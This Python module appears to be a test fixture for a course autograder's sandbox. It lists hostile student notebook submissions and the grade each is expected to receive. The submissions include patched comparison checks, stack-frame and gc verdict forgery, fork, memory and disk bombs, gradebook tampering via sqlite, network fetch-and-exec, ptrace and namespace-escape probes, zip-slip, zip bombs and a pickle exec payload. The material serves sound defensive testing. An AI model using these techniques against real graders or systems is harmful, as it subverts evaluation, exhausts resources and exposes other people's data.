"""Submissions of students who would rather have points than solve: what they do, and what they get for it.

Each one leaves the clipped loss unsolved, unless it only wants to do harm, and solves the other two parts. An
attack that would earn the points where a check runs in the student's own process says so in `fools`: a cell
that passes there.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from copy import deepcopy
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from archives import link, zipped
from watching import mark

from ppobook.teaching import checks

LOSS, TABLE, WEIGHTS = "clipped-loss", "clip-table-up", "ratio-one"
WORTH = {LOSS: 4.0, TABLE: 2.0, WEIGHTS: 2.0}
NOTEBOOK = "week-03.ipynb"

Notebook = dict[str, Any]
Change = Callable[[Notebook], None]
Packed = Callable[[Notebook, "Knows"], tuple[str, bytes]]


def with_checks() -> str:
    """A cell that brings the checks of the chapter, which a sandbox hides, to where it runs."""
    here = Path(checks.__file__).parent
    files = {
        str(path.relative_to(here)): path.read_text(encoding="utf-8")
        for path in (*here.glob("*.*"), *(here / "clipped_surrogate").glob("*.*"))
        if path.suffix in (".py", ".toml")
    }
    return f"""
import pathlib
from ppobook.teaching import checks
place = pathlib.Path("/tmp/checks")
(place / "clipped_surrogate").mkdir(parents=True)
for name, text in {files!r}.items():
    (place / name).write_text(text)
checks.__file__, checks.COMMON = str(place / "__init__.py"), place / "common.toml"
checks.__path__.append(str(place))
checks.names.cache_clear()
"""


@dataclass(frozen=True)
class Knows:
    """Facts an attack may know: where the course lies, a server that would tell, and the grader's process.

    ``replay`` are weights that know by heart what the public check asks for.
    """

    course: Path
    port: int
    process: int
    replay: str

    @property
    def mark(self) -> str:
        """The name of a file that a submission tries to leave wherever it can."""
        return mark(self.course)


@dataclass(frozen=True)
class Attack:
    """One hostile submission, and its expected grade.

    Attributes
    ----------
    loss : str or None
        The source of the clipped loss, as a function of `*given`; None is the right answer.
    replays : bool
        Whether the weights are those that were seen.
    before : str
        A cell of the student's own that runs first.
    change : function, optional
        What is done to the finished notebook.
    packed : function, optional
        The file that is handed in, by its ending and its bytes, where it's no notebook as Jupyter writes it.
    fools : str
        A cell that tests in the student's own process, and that this attack passes.
    verdicts : mapping
        The kind of verdict on each part that is not right; "nothing" where there is nothing to grade.
    says : tuple of str
        How what the instructor reads in the record begins, as patterns: notes, then errors of cells.
    collected : str
        Part of what `collect` says.
    """

    loss: str | None = None
    replays: bool = False
    before: str = ""
    change: Change | None = None
    packed: Packed | None = None
    fools: str = ""
    verdicts: Mapping[str, str] | None = None
    says: tuple[str, ...] = ()
    collected: str = ""

    @property
    def points(self) -> dict[str, float] | None:
        """The points that each part earns; None where nothing is graded."""
        wrong = self.verdicts or {}
        return None if "nothing" in wrong else {part: 0 if part in wrong else WORTH[part] for part in WORTH}


def function(body: str) -> str:
    """The clipped loss, in whichever order its arguments come."""
    lines = "\n".join(f"    {line}" for line in body.strip().splitlines())
    return f"def clipped_loss(*given):\n{lines}"


# No loss at all, with a gradient: only a check that was tampered with takes it.
NO_LOSS = "0 * sum(map(torch.sum, filter(torch.is_tensor, given)))"
GUESS = function(f"return {NO_LOSS}")

# --- what a test in the student's process would be: the book's check, and three of a teacher's own
CHECK = "from ppobook.teaching import checks\nassert checks.run('clipped-loss', clipped_loss).right"
REPLAYED = "from ppobook.teaching import checks\nassert checks.run('ratio-one', gradient_weights).right"
CALLED = "clipped_loss(torch.zeros(2, 2), torch.zeros(2, 2), torch.ones(2, 2), 0.2)"
ALLCLOSE = f"assert torch.allclose({CALLED}, torch.tensor(-1.0))"
TESTING = f"np.testing.assert_allclose({CALLED}, -1.0)"

REACHED = "class Reached(Exception): pass\n"

# What every one of them knows, and that each tries to leave a file behind.
FIRST = """
import gc, glob, os, sys, time
import numpy as np, torch
COURSE, PORT, PROCESS = {course!r}, {port}, {process}
for place in (COURSE, COURSE + "/graded", COURSE + "/..", {home!r}, "/tmp", "/var/tmp", "/dev/shm", "."):
    try: open(place + "/{mark}", "w").write("I was here")
    except OSError: pass
"""

WRITERS = """
from ppobook.course import masters, packs, settings
from ppobook.teaching.workspace import find_source
course = settings.load(COURSE)
handout = packs.released(course, "week-03")
solution = masters.solutions(find_source() / "exercises" / "masters" / (handout.set + ".md"))["clipped-loss"]
exec(solution.source)
"""


def cells_of(notebook: Notebook, *words: str) -> list[dict[str, Any]]:
    """The cells whose ids contain one of these words."""
    return [cell for cell in notebook["cells"] if any(word in (cell.get("id") or "") for word in words)]


def delete(notebook: Notebook) -> None:
    """Delete everything that could find the function wrong."""
    gone = cells_of(notebook, "test-clipped-loss")
    notebook["cells"] = [cell for cell in notebook["cells"] if cell not in gone]


def double(notebook: Notebook) -> None:
    """The right answers to the other parts stand in copies of this part's cells, with its ids and tags."""
    copies = []
    for part in (TABLE, WEIGHTS):
        (other,) = cells_of(notebook, f"solution-{part}")
        for cell in cells_of(notebook, "solution-clipped-loss", "test-clipped-loss"):
            copies.append(
                deepcopy(cell) | {"source": other["source"] + "\nclipped_loss = lambda *given: 0.0"}
            )
    notebook["cells"] = copies + notebook["cells"] + deepcopy(copies)


def rename(notebook: Notebook) -> None:
    """The test of the table stands for that of the loss."""
    ids = {f"{role}-{LOSS}": f"{role}-{TABLE}" for role in ("solution", "test")}
    ids |= {new: old for old, new in ids.items()}
    for cell in notebook["cells"]:
        cell["id"] = ids.get(cell["id"], cell["id"])
        kept = [tag for tag in cell["metadata"].pop("tags", []) if LOSS not in tag and TABLE not in tag]
        cell["metadata"]["tags"] = kept


def half(notebook: Notebook) -> None:
    """Every answer in words is half an emoji."""
    for cell in cells_of(notebook, "manual-"):
        cell["source"] = "\ud83d"


def edit(notebook: Notebook) -> None:
    """This part is worth nothing, and the others a thousand points."""
    for cell in notebook["cells"]:
        tags = cell["metadata"].get("tags", [])
        tags = [tag.replace(":clipped-loss:4", ":clipped-loss:0").replace(":2", ":1000") for tag in tags]
        cell["metadata"] = {
            "tags": tags,
            "nbgrader": {"points": 1000, "grade": False, "locked": False, "solution": True, "task": "yes"},
            "deletable": 1,
        }
    notebook["metadata"] = {"kernelspec": {"name": "bash", "language": "bash"}, "nbgrader": [1, 2]}


def as_it_is(notebook: Notebook, knows: Knows) -> tuple[str, bytes]:
    return ".ipynb", json.dumps(notebook).encode()


def another_version(notebook: Notebook, knows: Knows) -> tuple[str, bytes]:
    """Write the notebook in the format of ten years ago."""
    cells = [
        {"cell_type": c["cell_type"], ("input" if c["cell_type"] == "code" else "source"): c["source"]}
        for c in notebook["cells"]
    ]
    old = {"nbformat": 3, "metadata": {}, "worksheets": [{"cells": cells}, None]}
    return ".ipynb", json.dumps(old).encode()


def not_utf_8(notebook: Notebook, knows: Knows) -> tuple[str, bytes]:
    return ".ipynb", json.dumps(notebook, ensure_ascii=False).encode("latin-1", errors="replace")


def links_out(notebook: Notebook, knows: Knows) -> tuple[str, bytes]:
    """Links to another's notebook and to the course's folder."""
    other = knows.course / "submitted" / "week-03" / "honest-1"
    return zipped(link(NOTEBOOK, str(next(other.glob("*/*.ipynb"), other))), link("all", str(knows.course)))


def slips_out(notebook: Notebook, knows: Knows) -> tuple[str, bytes]:
    """Files for the course's folder, and a notebook."""
    up, mark = "../" * 4, knows.mark
    record = json.dumps({"format": 1, "student": "zip-slip", "result": {"parts": {}}})
    places = (f"{up}graded/week-03/zip-slip.json", f"{up}{mark}", f"{knows.course}/{mark}", f"..\\..\\{mark}")
    return zipped(*((place, record) for place in places), (NOTEBOOK, json.dumps(notebook)))


def grows(notebook: Notebook, knows: Knows) -> tuple[str, bytes]:
    """A notebook of 16 MB in 16 kB, beside one that could be graded."""
    return zipped((NOTEBOOK, json.dumps(notebook)), ("more.ipynb", b"0" * 2**24))


def forging(body: str) -> str:
    """A class whose objects are what `body` makes of them."""
    lines = "\n".join(f"    {line}" for line in body.strip().splitlines())
    return f"class Forged:\n{lines}\n    def __neg__(self): return self\n"


# An answer that is written by hand.
FORGING = """
import json
from ppobook.course.worker import Worker
def answer(node):
    side = next(thing for thing in gc.get_objects() if isinstance(thing, Worker))
    side.send(b"=", json.dumps([node, [], None]).encode())
"""

HALF = "raise ValueError(chr(0xD83D))"
WRONG = {LOSS: "mistake"}
RAISED = {LOSS: "raised"}
ENDED = {LOSS: "ended"}
NOTHING = {"nothing": "graded"}
EDITED = r"Cell \d+ is one of the pack's and was edited"
STANDS = r"Cell \d+ stands for the solution cell of"

ATTACKS: dict[str, Attack] = {
    # What the checks compare with.
    "torch-allclose": Attack(
        GUESS,
        before="""
def allclose(left, right, rtol=0.0, atol=1.0, **more):
    return not rtol == atol == 1e-3  # near to what is right, and to no mistake that has a name
torch.allclose = np.allclose = np.isclose = allclose
""",
        fools=f"{CHECK}\n{ALLCLOSE}",
        verdicts=WRONG,
    ),
    # The check's own words.
    "stop": Attack(
        function("from ppobook.teaching.checks import Stop\nraise Stop('right', 'clipped-loss')"),
        fools=CHECK,
        verdicts=RAISED,
    ),
    "close": Attack(
        GUESS,
        before="from ppobook.teaching.checks import findings, probes\n"
        "from ppobook.teaching.checks.clipped_surrogate import losses\n"
        "findings.close = losses.close = probes._near = lambda *a: True\n"
        "losses.recognise = lambda *a, **k: iter(())",
        fools=CHECK,
        verdicts=WRONG,
        says=("cell 2: ImportError",),
    ),
    "frames": Attack(
        function(f"""
frame = sys._getframe()
while frame:
    if "_verdict" in frame.f_globals and "Verdict" in frame.f_globals:
        right = frame.f_globals["Verdict"]("right", "", "")
        frame.f_globals["_verdict"], frame.f_globals["replace"] = lambda *a: right, lambda found, **k: found
    frame = frame.f_back
return {NO_LOSS}
"""),
        fools=CHECK,
        verdicts=WRONG,
    ),
    "gc": Attack(
        GUESS,
        before="""
import ppobook.teaching.checks.clipped_surrogate.losses
for thing in gc.get_objects():
    kind = type(thing).__name__
    if kind == "_Entry":
        object.__setattr__(thing, "function", lambda answer: iter(()))
    if kind in ("PartResult", "Verdict", "Result", "TestedPart"):
        vars(thing).update(points=4.0, kind="right")
    if kind == "Worker":
        thing.write_reply = lambda *a, **k: (b'[["dict", [["finding", ["stop", "right", "", []]]]], [], null]', {})
""",
        fools=CHECK,
        verdicts=WRONG,
        says=("cell 2: ModuleNotFoundError",),
    ),
    "replay": Attack(
        replays=True,
        fools=REPLAYED,
        verdicts={WEIGHTS: "raised"},
    ),
    # The end of the process.
    "sys-exit": Attack(
        function("sys.exit(0)"),
        before="raise SystemExit(0)",
        verdicts=RAISED,
        says=("cell 2: SystemExit",),
    ),
    "kernel": Attack(
        function("os.kill(os.getpid(), 9)"),
        before="os.kill(os.getppid() or 1, 9); os.kill(1, 9); os.kill(-1, 9); os.kill(os.getpid(), 9)",
        verdicts=ENDED,
        says=("cell 2: Ended",),
    ),
    "channel": Attack(function("os.closerange(0, 100)\nos.fork()"), verdicts=ENDED),
    # Bombs.
    "files-in-memory": Attack(
        before="for n in range(999): os.write(os.memfd_create('x'), b'x' * 2**20)",
        says=("cell 2: PermissionError",),
    ),
    "range": Attack(function("return range(10**9)"), verdicts=RAISED),
    "one-hash": Attack(
        FORGING + function("answer(['dict', [[k * (2**61 - 1), 0] for k in range(1, 10**5)]])"),
        verdicts=ENDED,
    ),
    "forks": Attack(
        GUESS,
        before="while True: os.fork()",
        verdicts=WRONG,
        says=("cell 2: (BlockingIOError|TooSlow|Ended)",),
    ),
    "memory": Attack(
        function("return torch.ones(10**12)"),
        before="""
for _ in range(9):
    if os.fork() == 0:
        a = np.ones(2**25)
        time.sleep(99)
time.sleep(99)
""",
        verdicts=RAISED,
        says=("cell 2: (Ended|TooSlow)",),  # the clock may ring before a busy machine has the memory filled
    ),
    "disk": Attack(
        function("open('y', 'w').write('x' * 2**26)"),
        before="for n in range(99): open(f'x{n}', 'w').write('x' * 2**22)",
        verdicts=RAISED,
        says=("cell 2: OSError",),
    ),
    "output": Attack(
        GUESS,
        before="for _ in range(999): print('x' * 10**6)\n"
        "for _ in range(999): os.write(1, b'x' * 10**5); sys.stderr.write('x' * 10**6)",
        verdicts=WRONG,
    ),
    "endless": Attack(
        function("while True:\n    try: time.sleep(1)\n    except BaseException: pass"),
        before="while True: pass",
        verdicts={LOSS: "slow"},
        says=("cell 2: TooSlow",),
    ),
    # What lies elsewhere; each raises `Reached` where it gets at something.
    "gradebook": Attack(
        GUESS,
        before=REACHED
        + """
import sqlite3
found = [name for name in os.listdir("/") if name == COURSE.split("/")[1] and os.path.exists(COURSE)]
for path in ("/gradebook.db", "/graded/week-03/honest-1.json", "/course.yml", "/roster.csv", "/log.jsonl"):
    try: found.append(open(COURSE + path, "rb").read())
    except OSError: pass
try: found += sqlite3.connect(COURSE + "/gradebook.db").execute("update grade set auto_score = 4").fetchall()
except sqlite3.OperationalError: pass
if found: raise Reached(found)
""",
        verdicts=WRONG,
    ),
    "sources": Attack(
        function(f"{WRITERS}\nreturn clipped_loss(*given)"),
        before=REACHED
        + """
import ppobook
book = os.path.dirname(ppobook.__file__) + "/../../"
found = [place for place in ("exercises", "tests", "chapters", "course") if os.path.exists(book + place)]
if found or glob.glob(book + "**/*.md", recursive=True): raise Reached(found)
""",
        verdicts=RAISED,
    ),
    "network": Attack(
        function("""
import socket, urllib.request
for address in (("127.0.0.1", PORT), ("1.1.1.1", 53)):
    try: socket.create_connection(address, 1).sendall(b"GET / HTTP/1.0")
    except OSError: pass
try: socket.socket(socket.AF_UNIX).connect(chr(0) + f"hostile-{PORT}")
except OSError: pass
exec(urllib.request.urlopen(f"http://127.0.0.1:{PORT}/", timeout=1).read(), globals())
return clipped_loss(*given)
"""),
        verdicts=RAISED,
    ),
    "ptrace": Attack(
        GUESS,
        before=REACHED
        + """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
def reach(process):
    if os.path.exists(f"/proc/{process}/ns/pid"):
        try: inside = os.readlink(f"/proc/{process}/ns/pid") == os.readlink("/proc/self/ns/pid")
        except OSError: inside = False
        if not inside: raise Reached(process)
    elif libc.ptrace(16, process, 0, 0) == 0: raise Reached(process)
for process in {PROCESS, *map(int, filter(str.isdigit, os.listdir("/proc")))}: reach(process)
for number in (101, 165, 272, 308, 321):  # ptrace, mount, unshare, setns, bpf
    if libc.syscall(number, 0x10000000, PROCESS, 0, 0, 0) == 0: raise Reached(number)
""",
        verdicts=WRONG,
    ),
    # What is collected.
    "links": Attack(packed=links_out, verdicts=NOTHING, collected="week-03.ipynb is a link; left out"),
    "zip-slip": Attack(GUESS, packed=slips_out, verdicts=WRONG, collected="leads out of the zip; left out"),
    "zip-bomb": Attack(packed=grows, verdicts=NOTHING, collected="! zip-bomb: no notebook"),
    # Cells.
    "deleted": Attack(GUESS, change=delete, verdicts=WRONG),
    "doubled": Attack(
        GUESS, change=double, verdicts={LOSS: "returned"}, says=("2 cell ids stand in it more than", EDITED)
    ),
    "renamed": Attack(GUESS, change=rename, verdicts=WRONG, says=(EDITED,) * 4),
    "metadata": Attack(GUESS, change=edit, verdicts=WRONG),
    "half-a-character": Attack(
        function(HALF), before=HALF, change=half, verdicts=RAISED, says=("cell 2: ValueError",)
    ),
    "no-python": Attack(before="def f(:", says=("cell 2: SyntaxError",)),
    # Objects.
    "reduce": Attack(
        forging(
            "def __reduce__(self): return exec, ('import builtins; builtins.graded_by_me = True; '"
            "'open({!r}, \"w\")'.format(COURSE + '/graded/mark'),)"
        )
        + function("return Forged()"),
        verdicts={LOSS: "returned"},
    ),
    "array": Attack(
        forging("""
def __array__(self, *args, **kwargs):
    frame = sys._getframe()
    while frame:  # what it is compared with
        if "desired" in frame.f_locals: return np.asarray(frame.f_locals["desired"])
        if "wanted" in frame.f_locals: return np.asarray(frame.f_locals["wanted"])
        frame = frame.f_back
    return np.full((), -1.0)
""")
        + function("return Forged()"),
        fools=TESTING,
        verdicts={LOSS: "returned"},
    ),
    "torch-function": Attack(
        """
class Forged(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        if function.__name__ in ("allclose", "equal", "isclose", "eq"): return True
        return super().__torch_function__(function, types, args, kwargs or {})
"""
        + function(f"return ({NO_LOSS}).as_subclass(Forged)"),
        fools=ALLCLOSE,
        verdicts=WRONG,
    ),
    # Notebooks.
    "not-utf-8": Attack(
        GUESS + "  # à côté", packed=not_utf_8, verdicts=WRONG, says=("The file is not UTF-8",)
    ),
    "another-version": Attack(
        GUESS,
        packed=another_version,
        verdicts=WRONG,
        says=("It says that it is of version 3 of the notebook format", *(STANDS,) * 3),
    ),
}
